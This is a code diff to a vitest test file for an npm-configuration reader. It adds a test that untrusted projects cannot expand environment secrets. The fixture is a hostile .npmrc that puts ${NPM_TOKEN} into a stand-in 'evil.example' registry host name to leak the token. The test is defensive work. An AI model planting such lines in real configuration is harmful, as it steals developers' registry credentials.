@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import type { SettingsStanding } from '../../../../src/sources/ecosystem/ecosystem.ts'
 import { npmConfigOf, parseNpmrc, readNpmConfig } from '../../../../src/sources/ecosystem/npm/npmrc.ts'
 import { folder } from '../../../policy/support.ts'
 
@@ -58,11 +59,32 @@ test('the environment beats the project, which beats the user', () => {
     'sub/x': '',
   })
   const registry = (env: Record<string, string>, name = 'a') =>
-    readNpmConfig(`${project}/sub`, env, home).registryOf(name)
+    readNpmConfig(`${project}/sub`, env, home, () => 'trusted').registryOf(name)
   expect(registry({})).toBe('https://project.example/')
   expect(registry({}, '@u/a')).toBe('https://u.example/')
   expect(registry({ npm_config_registry: 'https://env.example' })).toBe('https://env.example/')
   expect(registry({ NPM_CONFIG_REGISTRY: 'https://env.example' })).toBe('https://env.example/')
+})
+
+test('a project that nobody trusts gets none of your variables, and one that is judged is not read', () => {
+  const text = `registry=https://project.example/
+//project.example/:_authToken=\${NPM_TOKEN}
+//literal.example/:_authToken=written-there
+//\${NPM_TOKEN}.evil.example/:_authToken=x
+@x:registry=https://\${NPM_TOKEN}.evil.example/
+`
+  const project = folder({ 'package.json': '{}', '.npmrc': text })
+  const env = { NPM_TOKEN: 'secret' }
+  const config = (standing: SettingsStanding) => readNpmConfig(project, env, folder(), () => standing)
+  const sent = (standing: SettingsStanding, host: string) =>
+    config(standing).authorizationFor(new URL(`https://${host}/a`))
+  expect(sent('trusted', 'project.example')).toBe('Bearer secret')
+  expect(sent('strange', 'project.example')).toBeNull()
+  expect(sent('strange', 'literal.example')).toBe('Bearer written-there')
+  expect(sent('judged', 'literal.example')).toBeNull()
+  expect(config('strange').registryOf('a')).toBe('https://project.example/')
+  expect(config('strange').registryOf('@x/a')).toBe('https://project.example/')
+  expect(config('judged').registryOf('a')).toBe('https://registry.npmjs.org/')
 })
 
 describe('a name and its password', () => {
